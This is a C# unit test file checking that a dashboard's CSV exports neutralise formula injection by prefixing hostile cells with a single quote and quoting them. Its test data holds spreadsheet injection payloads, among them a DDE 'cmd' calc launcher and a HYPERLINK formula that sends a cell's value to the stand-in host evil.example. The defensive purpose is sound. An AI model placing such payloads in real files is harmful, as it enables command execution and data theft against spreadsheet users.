using System.Text;
using Conciergus.Core.Analytics;
using Conciergus.Core.Export;
using Conciergus.Dashboard.Components.Pages;
using Conciergus.Dashboard.Tests.Compliance;

namespace Conciergus.Dashboard.Tests.Security;

/// <summary>
/// Issue 15 item 5: CSV formula injection. Model, application and user names come from telemetry; every export (Cost
/// page, decision log, audit trail) writes them through <see cref="CsvWriter"/>, which turns a cell a spreadsheet would
/// run as a formula into text (leading single quote, OWASP "CSV Injection") and quotes per RFC 4180.
/// </summary>
public sealed class CsvInjectionTests
{
    // Expected values follow OWASP's CSV Injection guidance: prefix ' to cells starting with = + - @ tab or CR,
    // then RFC 4180: quote a cell holding a comma, a quote or a line break, doubling the quotes.
    [Theory]
    [InlineData("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0")]
    [InlineData("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0")]
    [InlineData("-2+3", "'-2+3")]
    [InlineData("+1+1", "'+1+1")]
    [InlineData("=hyperlink(\"https://evil.example/?x=\"&A1,\"click\")", "\"'=hyperlink(\"\"https://evil.example/?x=\"\"&A1,\"\"click\"\")\"")]
    [InlineData("\t=1+1", "'\t=1+1")]
    [InlineData("\r=1+1", "\"'\r=1+1\"")]
    [InlineData("gpt-4o", "gpt-4o")]
    [InlineData("openai/a,b", "\"openai/a,b\"")]
    [InlineData("line\nbreak", "\"line\nbreak\"")]
    [InlineData("", "")]
    public void Cell_HostileValue_NeutralisedAndQuoted(string value, string expected) =>
        Assert.Equal(expected, CsvWriter.Cell(value));

    [Fact]
    public void CostCsv_ModelNamesFromTheIssue_NoCellStartsAFormula()
    {
        string[] models = ["=cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "=hyperlink(\"https://evil.example\",\"x\")", "\tcalc", "\rcalc"];
        var breakdown = new CostBreakdown("model", 6m, 0, [.. models.Select(m => new CostGroup(m, 1m, 1, 1, 1, 1d / models.Length))]);

        var csv = Cost.ToCsv(breakdown);

        var firstCells = FirstCells(csv).Skip(1).ToList();
        Assert.Equal(models.Length, firstCells.Count);
        Assert.All(firstCells, cell => Assert.StartsWith("'", cell.TrimStart('"'), StringComparison.Ordinal));
    }

    [Fact]
    public async Task DecisionCsv_ApplicationWithLeadingTabOrCarriageReturn_Neutralised()
    {
        await using var host = new ComplianceTestHost();
        host.Collector.Record(host.Operation("alice", application: "\t=1+1"));
        host.Collector.Record(host.Operation("alice", application: "\r@SUM(A1)"));
        await host.Decisions.WaitForDrainAsync().WaitAsync(TimeSpan.FromSeconds(60));
        using var stream = new MemoryStream();

        await host.Decisions.ExportAsync(stream, "csv", "alice", null, null);

        var text = Encoding.UTF8.GetString(stream.ToArray());
        Assert.Contains(",'\t=1+1,", text, StringComparison.Ordinal);
        Assert.Contains(",\"'\r@SUM(A1)\",", text, StringComparison.Ordinal);
        Assert.DoesNotContain(",\t=", text, StringComparison.Ordinal);
        Assert.DoesNotContain(",\r@", text, StringComparison.Ordinal);
    }

    // First cell of each record (the CSV here has no line breaks inside quoted cells except a leading CR, handled by quotes).
    private static IEnumerable<string> FirstCells(string csv)
    {
        var records = new List<string>();
        var cell = new StringBuilder();
        var inQuotes = false;
        var first = true;
        foreach (var c in csv)
        {
            if (c == '"')
            {
                inQuotes = !inQuotes;
            }

            if (!inQuotes && c == '\n')
            {
                first = true;
                continue;
            }

            if (!inQuotes && c == ',' && first)
            {
                records.Add(cell.ToString());
                cell.Clear();
                first = false;
                continue;
            }

            if (first)
            {
                cell.Append(c);
            }
        }

        return records;
    }
}
